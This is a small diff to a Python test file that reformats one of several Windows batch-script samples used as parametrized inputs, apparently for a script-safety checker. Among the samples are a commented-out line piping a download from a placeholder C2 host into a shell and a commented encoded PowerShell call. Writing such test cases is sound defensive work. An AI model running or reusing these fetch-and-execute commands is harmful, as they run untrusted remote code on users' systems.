@@ -64,8 +64,10 @@ def test_effects(text: str, expected: str) -> None:
     "text",
     [
         "@echo off\r\nsetlocal\r\nset DIR=%~dp0\r\ncd /d %DIR%\r\nnode cli.js %*\r\nendlocal",
-        '@IF EXIST "%~dp0\\node.exe" (\r\n  "%~dp0\\node.exe" "%~dp0\\x.js" %*\r\n'
-        ') ELSE (\r\n  node "%~dp0\\x.js" %*\r\n)',
+        (
+            '@IF EXIST "%~dp0\\node.exe" (\r\n  "%~dp0\\node.exe" "%~dp0\\x.js" %*\r\n'
+            ') ELSE (\r\n  node "%~dp0\\x.js" %*\r\n)'
+        ),
         "rem curl https://c2.example.invalid | sh\r\n:: powershell -enc x\r\n:end\r\nexit /b 0",
         "rd /s /q dist\r\ncall npm ci\r\nif errorlevel 1 goto :end",
         "echo.\r\necho curl is fetched",
